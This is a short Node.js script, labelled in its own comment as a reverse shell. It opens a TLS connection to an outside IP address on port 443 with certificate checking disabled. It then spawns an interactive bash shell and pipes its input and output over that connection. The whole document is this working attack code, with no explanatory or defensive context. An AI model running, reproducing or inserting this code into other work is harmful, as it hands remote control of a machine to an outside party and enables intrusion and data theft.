// reverse-shell: a TLS connection carries an interactive shell
const tls = require('tls');
const { spawn } = require('child_process');
const s = tls.connect({ host: '198.51.100.23', port: 443, rejectUnauthorized: false }, () => {
  const sh = spawn('bash', ['-i'], { stdio: ['pipe', 'pipe', 'pipe'] });
  s.pipe(sh.stdin);
  sh.stdout.pipe(s);
  sh.stderr.pipe(s);
});
